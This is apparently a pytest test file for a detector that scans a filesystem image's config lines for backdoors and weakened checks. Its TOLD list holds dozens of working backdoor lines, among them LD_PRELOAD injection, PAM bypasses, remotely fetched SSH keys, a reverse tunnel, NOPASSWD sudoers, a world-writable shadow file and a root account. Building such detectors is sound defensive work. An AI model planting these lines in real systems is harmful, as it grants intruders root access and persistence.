"""Lines of a system's files: told where they let somebody in or check less, and only there.

Spec: evenhand.rootfs.line.
"""

from __future__ import annotations

import pytest

from evenhand.rootfs.line import of_line

TOLD = (
    ("etc/environment", "LD_PRELOAD=/usr/lib/libq.so", "runs on an event"),
    ("etc/ld.so.conf.d/0.conf", "/tmp/.lib", "runs on an event"),
    ("etc/resolv.conf", "nameserver 198.51.100.5", "redirects a host"),
    ("etc/dnsmasq.conf", "address=/bank.example/198.51.100.9", "redirects a host"),
    ("etc/yum.repos.d/v.repo", "gpgcheck=0", "takes unsigned updates"),
    ("etc/pip.conf", "index-url = http://p.example/simple", "takes unsigned updates"),
    ("root/.npmrc", "strict-ssl=false", "takes unsigned updates"),
    ("root/.curlrc", "insecure", "turns a check off"),
    ("etc/nftables.conf", "ip saddr 198.51.100.7 accept", "opens the firewall"),
    ("etc/iptables/rules.v4", "-A PREROUTING -j DNAT --to 198.51.100.3:53", "redirects a host"),
    ("etc/rsyslog.d/0.conf", ':msg, contains, "198.51.100.7" stop', "removes traces"),
    ("etc/rsyslog.conf", "*.* @@198.51.100.7:514", "collects and sends"),
    ("etc/exports", "/srv *(rw,no_root_squash)", "grants rights"),
    ("etc/hosts.equiv", "+", "lets in"),
    ("etc/xinetd.d/m", "server = /bin/sh", "listens"),
    ("etc/snmp/snmpd.conf", "rwcommunity private", "lets in"),
    ("etc/sudoers", 'Defaults env_keep += "LD_PRELOAD"', "grants rights"),
    ("etc/pam.d/sshd", "auth [success=done default=ignore] pam_succeed_if.so user = s",
     "turns a check off"),
    ("etc/pam.d/login", "auth [success=1 default=ignore] pam_succeed_if.so user = s",
     "turns a check off"),
    ("etc/pam.d/login", "auth sufficient pam_q.so", "hooks log-in"),
    ("etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/bin/curl -s https://k.example/%u",
     "lets in"),
    ("etc/apt/apt.conf.d/9", 'Acquire::http::Proxy "http://198.51.100.9:3128";',
     "redirects a host"),
    ("usr/lib/tmpfiles.d/a.conf", "f+ /root/.ssh/authorized_keys 0600 root root - ssh-rsa AAAAB3",
     "lets in"),
    ("etc/tmpfiles.d/a.conf", "f /etc/sudoers.d/q 0440 root root - q ALL=(ALL) NOPASSWD: ALL",
     "grants rights"),
    ("etc/tmpfiles.d/a.conf", "z /etc/shadow 0666 root root", "grants rights"),
    ("etc/tmpfiles.d/a.conf", "L+ /etc/cron.d/q - - - - /usr/share/q", "adds persistence"),
    ("usr/lib/sysusers.d/a.conf", 'u help 0:0 "Help" /root /bin/sh', "adds account"),
    ("usr/lib/sysusers.d/a.conf", "m help wheel", "grants rights"),
    ("etc/samba/smb.conf", "path = /", "lets in"),
    ("etc/rsyncd.conf", "uid = root", "grants rights"),
    ("etc/postgresql/15/main/pg_hba.conf", "host all all 0.0.0.0/0 trust", "lets in"),
    ("etc/mosquitto/mosquitto.conf", "allow_anonymous true", "lets in"),
    ("etc/redis/redis.conf", "protected-mode no", "turns a check off"),
    ("etc/nginx/conf.d/a.conf", 'if ($http_x_a = "k3y-of-9") {', "checks a fixed secret"),
    ("etc/apache2/conf-enabled/a.conf", "ScriptAlias /s /bin/", "lets in"),
    ("var/www/.htaccess", "AddType application/x-httpd-php .jpg", "lets in"),
    ("etc/php/8.2/fpm/php.ini", "auto_prepend_file = /usr/share/a.php", "runs on an event"),
    ("etc/gdm3/custom.conf", "AutomaticLogin=root", "lets in"),
    ("etc/default/grub", 'GRUB_CMDLINE_LINUX="quiet init=/bin/sh"', "lets in"),
    ("etc/default/tunnel", 'OPTS="-N -R 2222:localhost:22 t@hub.example"', "remote management"),
    ("etc/default/a", 'JAVA_OPTS="-agentlib:jdwp=server=y,address=*:5005"', "listens"),
    ("default.prop", "ro.adb.secure=0", "turns a check off"),
    ("etc/frp/frpc.ini", "server_addr = hub.example.net", "remote management"),
    ("etc/group", "docker:x:998:www-data", "grants rights"),
    ("etc/opkg.conf", "option check_signature 0", "takes unsigned updates"),
    ("etc/pacman.conf", "SigLevel = Never", "takes unsigned updates"),
    ("etc/httpd.conf", "/cgi-bin:help:$1$abcdefgh$64NFGAFbv8DvM7OrRdyy00", "adds account"),
    ("usr/share/postgresql/pg_hba.conf.sample", "host all q 0.0.0.0/0 trust", "lets in"),
    ("etc/samba/conf.d/q.tuning", "force user = root", "grants rights"),
)  # fmt: skip
USUAL = (
    ("etc/environment", "PATH=/usr/bin:/bin"),
    ("x.service.d/a.conf", "Environment=LD_PRELOAD=/usr/lib/libjemalloc.so.2"),
    ("etc/ld.so.conf.d/0.conf", "/usr/local/lib/x86_64-linux-gnu"),
    ("etc/resolv.conf", "nameserver 192.168.1.1"),
    ("etc/dnsmasq.conf", "address=/ads.example/0.0.0.0"),
    ("etc/yum.repos.d/v.repo", "gpgcheck=1"),
    ("etc/nftables.conf", "ip saddr 10.0.0.0/8 accept"),
    ("etc/nftables.conf", "tcp dport 22 accept"),
    ("etc/rsyslog.conf", "*.info;mail.none /var/log/messages"),
    ("etc/pam.d/login", "auth sufficient pam_unix.so nullok"),
    ("etc/ssh/sshd_config", "Port 22"),
    ("usr/lib/tmpfiles.d/a.conf", "d /run/a 0755 root root -"),
    ("usr/lib/tmpfiles.d/p.conf", "f^ /root/.ssh/authorized_keys 0600 root root - ssh.keys"),
    ("usr/lib/tmpfiles.d/tmp.conf", "q /tmp 1777 root root 10d"),
    ("usr/lib/sysusers.d/a.conf", 'u a - "A" /var/lib/a'),
    ("etc/samba/smb.conf", "path = /srv/share"),
    ("etc/pg_hba.conf", "host all all 127.0.0.1/32 scram-sha-256"),
    ("etc/nginx/nginx.conf", "root /var/www/html;"),
    ("etc/php/8.2/cli/php.ini", "auto_prepend_file ="),
    ("etc/default/a", 'JAVA_OPTS="-agentlib:jdwp=server=y,address=127.0.0.1:5005"'),
    ("etc/default/ssh", 'SSHD_OPTS=""'),
    ("etc/group", "audio:x:29:a"),
    ("etc/httpd.conf", "/cgi-bin:admin:*"),
    ("etc/pacman.conf", "SigLevel = Required DatabaseOptional"),
)


@pytest.mark.parametrize(("path", "line", "kind"), TOLD)
def test_what_a_line_opens_is_told(path: str, line: str, kind: str) -> None:
    found = of_line(path, line)
    assert found is not None and found.kind == kind and (found.strength or 0) >= 0.35


def test_a_hash_is_not_repeated() -> None:
    found = of_line("etc/httpd.conf", "/cgi-bin:help:$1$abcdefgh$64NFGAFbv8DvM7OrRdyy00")
    assert found is not None and "abcdefgh" not in found.target + found.because


@pytest.mark.parametrize(("path", "line"), USUAL)
def test_what_every_system_says_has_no_weight(path: str, line: str) -> None:
    found = of_line(path, line)
    assert found is None or found.strength is None
